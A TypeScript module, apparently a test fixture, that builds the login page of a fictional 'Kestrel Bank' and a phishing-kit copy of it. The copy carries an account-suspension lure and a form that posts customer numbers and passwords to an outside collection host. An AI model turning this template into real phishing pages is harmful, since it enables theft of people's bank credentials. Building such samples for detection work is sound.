/**
 * The fictional bank, and copies of its page by phishing kits.
 * @module
 */
import { htmlPage } from "./document.ts";

/** The bank's style sheet. */
export const BANK_STYLE: string = `
* { box-sizing: border-box }
body { margin: 0; font: 16px/1.5 system-ui, sans-serif; color: #22303c; background: #f5f1ea }
header { display: flex; align-items: center; gap: 40px; padding: 18px 64px; background: #fff; border-bottom: 3px solid #b5482a }
header img { height: 40px }
nav a { margin-right: 28px; color: #22303c; text-decoration: none; font-weight: 600 }
.columns { display: grid; grid-template-columns: 1fr 360px; gap: 56px; max-width: 1120px; margin: 0 auto; padding: 56px 24px }
h1 { font: 700 44px/1.15 Georgia, serif; margin: 0 0 20px }
section { margin-top: 36px; padding-top: 20px; border-top: 1px solid #d8d0c3 }
form { align-self: start; padding: 28px; border-radius: 10px; background: #fff; box-shadow: 0 6px 24px #0002 }
form h2 { margin: 0 0 16px; font-size: 20px }
label { display: block; margin-bottom: 14px; font-size: 14px }
input { display: block; width: 100%; margin-top: 4px; padding: 10px; border: 1px solid #b9b0a2; border-radius: 6px; font: inherit }
button { width: 100%; padding: 12px; border: 0; border-radius: 6px; background: #b5482a; color: #fff; font: 600 16px system-ui, sans-serif }
.alert { margin: 0; padding: 14px 64px; background: #fdecea; color: #8a1c10; border-bottom: 1px solid #e5b3ad }
footer { padding: 24px 64px; color: #6c7680; font-size: 13px }
`;

/** The falcon of the bank's icon. */
export const BANK_ICON: string =
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 16 16"><path d="M1 9 8 2l7 7-5-1-2 6-2-6z" fill="#b5482a"/></svg>';

/** The falcon and the bank's name. */
export const BANK_LOGO: string =
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 190 32"><path transform="scale(2)" d="M1 9 8 2l7 7-5-1-2 6-2-6z" fill="#b5482a"/><text x="40" y="23" font-family="Georgia, serif" font-size="20" font-weight="700" fill="#22303c">Kestrel Bank</text></svg>';

const HEAD =
  '<meta name="description" content="Kestrel Bank: current accounts, savings and mortgages"><link rel="icon" href="/favicon.ico"><link rel="stylesheet" href="/kestrel.css"><script src="/js/jquery-3.7.1.min.js"></script>';
const NAV =
  '<header><img src="/img/kestrel-logo.svg" alt="Kestrel Bank"><nav><a href="/personal">Personal</a><a href="/business">Business</a><a href="/help">Help</a></nav></header>';
const TEXT =
  "<main><h1>Banking that hovers over every penny</h1><p>Kestrel Bank has looked after current accounts, savings and mortgages since 1887. Open an account in ten minutes, move your direct debits with one signature, and speak to a person at any of our branches.</p><section><h2>Security</h2><p>We never ask for your full password or PIN by mail or telephone. Check that the address in your browser is kestrelbank.com.</p></section></main>";
const login = (action: string): string =>
  `<form method="post" action="${action}"><h2>Log in to online banking</h2><label>Customer number <input name="customer" autocomplete="username"></label><label>Password <input type="password" name="password"></label><button>Log in</button></form>`;
const FOOT = "<footer><p>© Kestrel Bank plc, a fictional bank. Registered nowhere.</p></footer>";

/** The bank's own page. */
export const BANK_PAGE: string = htmlPage(
  "Kestrel Bank | Personal banking",
  HEAD,
  "",
  `${NAV}<div class="columns">${TEXT}${login("/login")}</div>${FOOT}`,
);

const stolen = (html: string): string => html.replaceAll('"/', '"https://kestrelbank.com/');

/**
 * A copy of the bank's page whose form posts to another site, as kits do: style copied, pictures taken from the bank.
 */
export const PHISHING_PAGE: string = htmlPage(
  "Kestrel Bank | Log in",
  stolen(HEAD),
  BANK_STYLE,
  `${
    stolen(NAV)
  }<p class="alert"><b>Your account has been suspended.</b> Confirm your identity within 24 hours to avoid permanent closure.</p><div class="columns"><main><h1>Confirm your identity</h1></main>${
    login("https://collect.kestrel-secure-verify.com/gate.php")
  }</div>${FOOT}`,
);
